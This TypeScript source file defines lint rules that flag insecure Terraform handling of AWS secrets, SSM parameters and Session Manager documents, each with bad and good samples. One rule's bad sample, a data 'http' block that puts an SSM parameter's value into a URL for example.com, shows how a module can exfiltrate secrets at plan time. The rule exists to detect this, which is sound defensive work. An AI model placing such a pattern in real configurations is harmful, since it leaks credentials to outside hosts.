import type { Expression } from '../../hcl/ast.ts';
import { forEachChild } from '../../hcl/walk.ts';
import { textOf } from '../../terraform/convert.ts';
import { documentOf } from '../../terraform/document.ts';
import { decodeYaml } from '../../terraform/functions/yaml-decode.ts';
import type { ModuleTree, Resource } from '../../terraform/model.ts';
import type { Value } from '../../terraform/value.ts';
import { atMost, each, matches, matchesNot, noBlock, preferring } from '../predicates.ts';
import type { Report, Rule } from '../rule.ts';
import { docs, registry } from './refs.ts';

const rotating = docs('secretsmanager/latest/userguide/rotating-secrets.html');
const sessions = docs('systems-manager/latest/userguide/session-manager-logging.html');
const parameters = docs('systems-manager/latest/userguide/sysman-paramstore-securestring.html');

/** Types whose values are secrets. */
const secretTypes = ['aws_ssm_parameter', 'aws_secretsmanager_secret_version', 'random_password'];

/** The name of the type of secret that an expression refers to. */
function secretIn(expression: Expression): string | undefined {
  if (expression.kind === 'variable' && secretTypes.includes(expression.name)) return expression.name;
  let found: string | undefined;
  forEachChild(expression, (child) => {
    found ??= secretIn(child);
  });
  return found;
}

/** Values that say that there is no secret yet. */
const placeholder =
  /^\s*$|^\{\s*\}$|change.?me|place.?holder|dummy|initial|example|replace|todo|to.?be|^x+$|^-+$|^(?:none|null|empty|unset|default)$/i;

/** Whether Terraform is told to leave an argument as it is once it is made. */
function ignoresChanges(resource: Resource, name: string): boolean {
  return resource.block.body.items.some(
    (item) =>
      item.kind === 'block' &&
      item.type === 'lifecycle' &&
      item.body.items.some(
        (inner) =>
          inner.kind === 'attribute' && inner.name === 'ignore_changes' && mentions(inner.value, [name, 'all']),
      ),
  );
}

function mentions(expression: Expression, names: readonly string[]): boolean {
  if (expression.kind === 'variable') return names.includes(expression.name);
  let found = false;
  forEachChild(expression, (child) => {
    found ||= mentions(child, names);
  });
  return found;
}

function* secretsOverHttp(tree: ModuleTree): Iterable<Report> {
  for (const request of tree.dataSources('http')) {
    for (const name of ['url', 'request_body', 'request_headers']) {
      const value = request.attribute(name)?.value;
      const type = value && secretIn(value);
      if (!value || !type) continue;
      yield {
        at: { file: request.location.file, start: value.start, end: value.end },
        resource: request,
        message: `The value of an ${type} is sent to another host whenever Terraform plans. Take it out of the request.`,
      };
    }
  }
}

/** The `inputs` of a document for Session Manager, none where it has none; undefined where they are unknown. */
function sessionInputs(document: Resource): ReadonlyMap<string, Value> | undefined {
  const type = document.get('document_type');
  const content = document.get('content');
  if (type?.kind !== 'string' || type.value !== 'Session' || !content) return undefined;
  const read = documentOf(content) ?? fromYaml(content);
  if (read?.kind !== 'object') return undefined;
  const inputs = read.entries.get('inputs');
  if (!inputs) return read.open ? undefined : new Map();
  return inputs.kind === 'object' ? inputs.entries : undefined;
}

function fromYaml(content: Value): Value | undefined {
  const pieces = content.kind === 'string' ? [content.value] : content.kind === 'unknown' ? content.pieces : undefined;
  if (!pieces) return undefined;
  try {
    return decodeYaml(pieces.map((piece) => (typeof piece === 'string' ? piece : 'unknown')).join(''), content.origin);
  } catch {
    return undefined;
  }
}

const isOff = (value: Value | undefined) =>
  value === undefined || value.kind === 'null' || ['', 'false'].includes(textOf(value) ?? 'unknown');

const session = (inputs: string) => `resource "aws_ssm_document" "example" {
  name          = "SSM-SessionManagerRunShell"
  document_type = "Session"
  content = jsonencode({
    schemaVersion = "1.0"
    sessionType   = "Standard_Stream"
    inputs        = { ${inputs} }
  })
}
`;

const badSession = (inputs: string) => session(inputs).replace('{\n', `{\n${'~'.repeat(37)}\n`);

export const secrets: readonly Rule[] = [
  {
    id: 'aws/secret-in-text',
    title: 'A secret stands in the text',
    severity: 'error',
    pillar: 'data',
    recommended: true,
    why: `The service keeps the secret encrypted, and the text shows it to everyone who may read the repository, its history and the state. Give it from outside with a write-only argument (\`secret_string_wo\`, \`value_wo\`), make it with an ephemeral \`random_password\`, or let the service make and rotate it.

Leave it for a first value that a person replaces, with \`ignore_changes\`; such a value is not flagged.`,
    refs: [docs('secretsmanager/latest/userguide/best-practices.html'), registry('secretsmanager_secret_version')],
    equivalents: [],
    check: {
      on: ['aws_secretsmanager_secret_version', 'aws_ssm_parameter'],
      *resource(resource) {
        const name = resource.type === 'aws_ssm_parameter' ? 'value' : 'secret_string';
        const type = resource.get('type');
        const plain =
          resource.type === 'aws_ssm_parameter' && (type?.kind !== 'string' || type.value !== 'SecureString');
        const value = resource.get(name);
        if (plain || value?.kind !== 'string' || placeholder.test(value.value) || ignoresChanges(resource, name))
          return;
        yield {
          at: value,
          message: 'The secret stands here for everyone who reads the text. Change it, and give it from outside.',
        };
      },
    },
    bad: `resource "aws_secretsmanager_secret_version" "example" {
  secret_id     = "example"
  secret_string = "Tr0ub4dor&3"
                  ~~~~~~~~~~~~~
}
`,
    good: `resource "aws_secretsmanager_secret_version" "example" {
  secret_id                = "example"
  secret_string_wo         = var.password
  secret_string_wo_version = 1
}
`,
  },
  {
    id: 'aws/secret-over-http',
    title: 'A secret is sent to another host when Terraform plans',
    severity: 'error',
    pillar: 'data',
    recommended: true,
    why: `A data source of the type \`http\` asks its address each time Terraform plans. A secret in the address, the headers or the body goes to whoever runs that host and into the logs on the way. It is how a changed module steals secrets without an apply.

Leave it for a host of your own that needs the secret to answer, over HTTPS and in a header.`,
    refs: ['https://registry.terraform.io/providers/hashicorp/http/latest/docs/data-sources/http', parameters],
    equivalents: ['checkov/CKV2_AWS_36', 'trivy/AWS-0134'],
    check: { on: [], tree: secretsOverHttp },
    bad: `data "http" "example" {
  url = "https://example.com/?p=\${aws_ssm_parameter.example.value}"
        ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~
}

resource "aws_ssm_parameter" "example" {
  name  = "password"
  type  = "SecureString"
  value = var.password
}
`,
    good: `data "http" "example" {
  url = "https://example.com/"
}

resource "aws_ssm_parameter" "example" {
  name  = "password"
  type  = "SecureString"
  value = var.password
}
`,
  },
  {
    id: 'aws/secret-rotation-missing',
    title: 'A secret is never rotated',
    severity: 'info',
    pillar: 'data',
    recommended: false,
    why: `A secret that leaked unnoticed works until it changes. Secrets Manager changes those of databases itself, and others with a function.

Leave it for secrets that others give out, such as keys of a supplier, and for those that Terraform must know.`,
    refs: [rotating, registry('secretsmanager_secret_rotation')],
    equivalents: ['checkov/CKV2_AWS_57'],
    check: {
      on: ['aws_secretsmanager_secret'],
      needs: [{ on: ['aws_secretsmanager_secret_rotation'], by: 'secret_id' }],
      // Until version 5 of the provider the secret said it itself.
      when: [{ attribute: 'rotation_rules', is: noBlock() }],
      text: 'an aws_secretsmanager_secret_rotation',
      so: 'so that the secret changes',
    },
    bad: `resource "aws_secretsmanager_secret" "example" {
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~
  name = "example"
}
`,
    good: `resource "aws_secretsmanager_secret" "example" {
  name = "example"
}

resource "aws_secretsmanager_secret_rotation" "example" {
  secret_id           = aws_secretsmanager_secret.example.id
  rotation_lambda_arn = aws_lambda_function.example.arn

  rotation_rules {
    automatically_after_days = 30
  }
}
`,
  },
  {
    id: 'aws/secret-rotation-too-seldom',
    title: 'A secret is rotated less than every 90 days',
    severity: 'info',
    pillar: 'data',
    recommended: false,
    why: `The rarer the change, the longer a leaked secret works. Once the change runs by itself, it costs no more to run it often.

Leave it where each change means work for people elsewhere.`,
    refs: [rotating, registry('secretsmanager_secret_rotation')],
    equivalents: ['checkov/CKV_AWS_304'],
    check: [
      {
        on: ['aws_secretsmanager_secret_rotation'],
        attribute: 'rotation_rules.automatically_after_days',
        must: preferring(90, atMost(90)),
        missing: 'passes',
      },
      {
        on: ['aws_secretsmanager_secret_rotation'],
        attribute: 'rotation_rules.schedule_expression',
        must: preferring(
          'rate(90 days)',
          matchesNot(/^rate\((?:9[1-9]|[1-9]\d{2,}) days?\)$/, 'at least every 90 days'),
        ),
        missing: 'passes',
      },
    ],
    bad: `resource "aws_secretsmanager_secret_rotation" "example" {
  secret_id = "example"

  rotation_rules {
    automatically_after_days = 365
                               ~~~
  }
}
`,
    good: `resource "aws_secretsmanager_secret_rotation" "example" {
  secret_id = "example"

  rotation_rules {
    automatically_after_days = 90
  }
}
`,
  },
  {
    id: 'aws/session-encryption',
    title: 'Sessions of Session Manager are not encrypted with a key',
    severity: 'info',
    pillar: 'data',
    recommended: false,
    why: `Sessions run over TLS anyway. With a key of KMS they are encrypted again from end to end, and whoever may not use the key cannot start one.

Leave it where the right to start sessions is narrow enough; the instances need the key too.`,
    refs: [
      docs('systems-manager/latest/userguide/session-preferences-enable-encryption.html'),
      registry('ssm_document'),
    ],
    equivalents: ['checkov/CKV_AWS_112'],
    check: {
      on: ['aws_ssm_document'],
      *resource(document) {
        const inputs = sessionInputs(document);
        const key = inputs?.get('kmsKeyId');
        if (inputs && isOff(key))
          yield { at: document, message: 'kmsKeyId is empty: name a key, so that sessions are encrypted with it.' };
      },
    },
    bad: badSession('kmsKeyId = ""'),
    good: session('kmsKeyId = "alias/sessions"'),
  },
  {
    id: 'aws/session-logging',
    title: 'What is done in sessions is not recorded',
    severity: 'info',
    pillar: 'logging',
    recommended: false,
    why: `CloudTrail says who started a session, not what was typed in it. A log in CloudWatch or a bucket does, encrypted, since passwords are typed too.

Leave it where sessions only forward ports, of which there is nothing to record.`,
    refs: [sessions, registry('ssm_document')],
    equivalents: ['checkov/CKV_AWS_113'],
    check: {
      on: ['aws_ssm_document'],
      *resource(document) {
        const inputs = sessionInputs(document);
        if (!inputs) return;
        const toBucket = !isOff(inputs.get('s3BucketName')) && !isOff(inputs.get('s3EncryptionEnabled'));
        const toGroup =
          !isOff(inputs.get('cloudWatchLogGroupName')) && !isOff(inputs.get('cloudWatchEncryptionEnabled'));
        if (toBucket || toGroup) return;
        yield {
          at: document,
          message: 'Sessions are recorded nowhere, or in plain text. Name a bucket or a log group, and encrypt it.',
        };
      },
    },
    bad: badSession('kmsKeyId = "alias/sessions"'),
    good: session('cloudWatchLogGroupName = "sessions", cloudWatchEncryptionEnabled = true'),
  },
  {
    id: 'aws/ssm-document-public',
    title: 'A document of Systems Manager is shared with everyone',
    severity: 'error',
    pillar: 'identity',
    recommended: true,
    why: `Every account of AWS may read and run it: scripts tell strangers how your systems are built, and often more.

Leave it for documents that you publish on purpose.`,
    refs: [docs('systems-manager/latest/userguide/documents-ssm-sharing.html'), registry('ssm_document')],
    equivalents: ['checkov/CKV_AWS_303'],
    check: {
      on: ['aws_ssm_document'],
      attribute: 'permissions.account_ids',
      must: each(matchesNot(/(?:^|,)\s*all\s*(?:,|$)/i, 'a list of accounts')),
      missing: 'passes',
    },
    bad: `resource "aws_ssm_document" "example" {
  name          = "example"
  document_type = "Command"
  content       = file("example.json")

  permissions = {
    type        = "Share"
    account_ids = "All"
                  ~~~~~
  }
}
`,
    good: `resource "aws_ssm_document" "example" {
  name          = "example"
  document_type = "Command"
  content       = file("example.json")

  permissions = {
    type        = "Share"
    account_ids = "111122223333"
  }
}
`,
  },
  {
    id: 'aws/ssm-parameter-plain',
    title: 'A parameter is stored in plain text',
    severity: 'info',
    pillar: 'data',
    recommended: false,
    why: `A \`SecureString\` is encrypted with KMS, so that reading it takes the right to the key too, and consoles hide it. For secrets that is the least.

Leave it for settings that are no secret, which is what most parameters are.`,
    refs: [parameters, registry('ssm_parameter')],
    equivalents: ['checkov/CKV2_AWS_34', 'checkov/CKV_AWS_337'],
    check: {
      on: ['aws_ssm_parameter'],
      attribute: 'type',
      must: { ...matches(/^SecureString$/, '"SecureString"'), right: '"SecureString"' },
      missing: 'passes',
      so: 'so that it is encrypted',
      effect: 'readers need the right to decrypt',
    },
    bad: `resource "aws_ssm_parameter" "example" {
  name  = "example"
  type  = "String"
          ~~~~~~~~
  value = "example"
}
`,
    good: `resource "aws_ssm_parameter" "example" {
  name  = "example"
  type  = "SecureString"
  value = "example"
}
`,
  },
];
